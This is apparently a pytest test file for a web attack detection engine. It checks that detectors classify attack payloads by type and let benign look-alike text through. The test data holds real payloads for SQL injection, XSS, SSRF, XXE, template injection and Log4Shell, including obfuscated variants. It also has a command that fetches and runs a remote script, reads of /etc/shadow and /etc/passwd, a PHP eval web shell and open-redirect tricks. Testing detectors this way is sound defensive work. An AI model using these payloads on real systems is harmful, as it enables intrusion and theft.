"""Each attack type: real payloads are found (in the expected type), look-alikes are passed."""

from __future__ import annotations

from urllib.parse import quote

import pytest

from oob_analyzer.detection import DetectionEngine, default_detectors
from oob_analyzer.detection.detectors import Log4ShellDetector, ProtocolAnomalyDetector
from oob_analyzer.detection.request_point import RequestPoint
from reassembly.events import HttpRequest
from tests.builders import http_request

ENGINE = DetectionEngine(default_detectors())
FORM = (("Host", "shop.example.com"), ("Content-Type", "application/x-www-form-urlencoded"))


def types_in_form_value(value: str) -> set[str]:
    request = http_request("/submit", method="POST", body=f"v={quote(value, safe='')}".encode(), headers=FORM)
    return {hit.attack_type for hit in ENGINE.analyze(request)}


@pytest.mark.parametrize(
    ("attack_type", "payload"),
    [
        ("sqli", "1' AND 1=CONVERT(int,(SELECT @@version))--"),
        ("sqli", "x') UNION SELECT username, password FROM users--"),
        ("xss", "<script>alert(document.cookie)</script>"),
        ("xss", "<img src=x onerror=prompt(1)>"),
        ("rce", "; cat /etc/shadow"),
        ("rce", "$(wget -qO- http://203.0.113.1/a | sh)"),
        ("path_traversal", "../../../../etc/passwd"),
        ("path_traversal", "..\\..\\windows\\win.ini"),
        ("rfi", "php://input"),
        ("ssrf", "http://169.254.169.254/latest/meta-data/"),
        ("ssrf", "gopher://127.0.0.1:6379/_INFO"),
        ("xxe", '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'),
        ("ssti", "{{7*7}}"),
        ("ssti", "{{''.__class__.__mro__[1].__subclasses__()}}"),
        ("ldapi", "*)(objectClass=*"),
        ("nosqli", '{"$where": "sleep(1000)"}'),
        ("log4shell", "${jndi:ldap://203.0.113.4/x}"),
        ("crlf", "a\r\nSet-Cookie: admin=1"),
        ("ssi", '<!--#exec cmd="id" -->'),
        ("mail_injection", "a\r\nRCPT TO:<x@evil.example>"),
        ("php_injection", "<?php eval($_POST['x']); ?>"),
        ("php_injection", 'O:4:"User":1:{s:5:"admin";b:1;}'),
        ("java", "${T(java.lang.Runtime).getRuntime().exec('id')}"),
        ("java", "%{#_memberAccess}"),
    ],
)
def test_attack_is_found_with_its_type(attack_type: str, payload: str) -> None:
    assert attack_type in types_in_form_value(payload)


@pytest.mark.parametrize(
    "text",
    [
        "O'Reilly - Learning SQL, 3rd edition",
        "Select a delivery slot from the calendar",
        "Tom & Jerry; the classic cartoon",
        "a < b and c > d",  # (numbers, "1 < 2 and 3 > 2", share the `1&1` fingerprint of "1 and 1=1")
        "See https://docs.example.com/help?topic=billing",
        "Bring cat food and dog food",
        "ls -- is that a typo?",
        "The price is ${price} per unit",
        "{{ user.name }} will receive an email",
        "email: a.b@example.com",
        "<b>Bold</b> text, <i>italic</i>",
        "C# and F# are .NET languages",
    ],
)
def test_benign_look_alike_is_passed(text: str) -> None:
    assert types_in_form_value(text) == set()


def test_scanner_user_agent_and_probe_path() -> None:
    request = http_request(
        "/.git/config", headers=(("Host", "x"), ("User-Agent", "Mozilla/5.0 (compatible; Nmap Scripting Engine)"))
    )
    hits = {(h.attack_type, h.rule) for h in ENGINE.analyze(request)}
    assert ("scanner", "scanner-tool") in hits or ("scanner", "scanner-probe-path") in hits


def test_browser_headers_are_passed() -> None:
    headers = (
        ("Host", "x"),
        (
            "User-Agent",
            "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36",
        ),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"),
        ("Accept-Language", "de-DE,de;q=0.9,en;q=0.8"),
        ("Referer", "https://www.example.com/search?q=shoes&page=2"),
        ("Cookie", "_ga=GA1.2.1234567890.1700000000; theme=dark"),
    )
    assert ENGINE.analyze(http_request("/", headers=headers)) == []


def test_smuggling_anomaly_from_reassembly_is_a_protocol_hit() -> None:
    request = HttpRequest(
        ts=1.0,
        flow=http_request().flow,
        method="POST",
        target="/",
        version="HTTP/1.1",
        headers=(("Host", "x"),),
        anomalies=("bare_lf", "content_length_and_chunked"),
    )
    [hit] = ENGINE.analyze(request)
    assert (hit.attack_type, hit.rule) == ("protocol", "protocol-content_length_and_chunked")
    benign = ProtocolAnomalyDetector().inspect(RequestPoint(name="request", value="bare_lf", kind="anomaly"))
    assert list(benign) == []


@pytest.mark.parametrize(
    "payload",
    [
        "${jndi:ldap://x/a}",
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${${env:NOPE:-j}ndi${env:NOPE:-:}ldap://x/a}",
    ],
)
def test_log4shell_sees_through_nested_lookups(payload: str) -> None:
    point = RequestPoint(name="header.x-api-version", value=payload.lower(), kind="header")
    assert [f.rule for f in Log4ShellDetector().inspect(point)] == ["log4shell-jndi"]


def test_hit_reports_payload_in_original_case_and_rule_reason() -> None:
    [hit] = ENGINE.analyze(http_request("/?next=%3CSCRIPT%3Ealert(1)%3C/SCRIPT%3E"))
    assert (hit.point, hit.payload, hit.rule) == ("query.next", "<SCRIPT>alert(1)</SCRIPT>", "libinjection-xss")
    assert hit.reason


@pytest.mark.parametrize(
    ("target", "found"),
    [
        ("/login?next=//evil.example/x", True),
        ("/login?redirect_uri=%2F%5Cevil.example", True),
        ("/sso?returnTo=https://shop.example.com@evil.example/", True),
        ("/go?url[redirect]=javascript:alert(1)", True),
        ("/login?next=/account/orders", False),
        ("/oauth?redirect_uri=https://app.example.org/callback", False),
        ("/search?q=//comment", False),
    ],
)
def test_open_redirect_only_for_redirect_parameters_with_a_trick(target: str, found: bool) -> None:
    types = {hit.attack_type for hit in ENGINE.analyze(http_request(target))}
    assert ("open_redirect" in types) is found
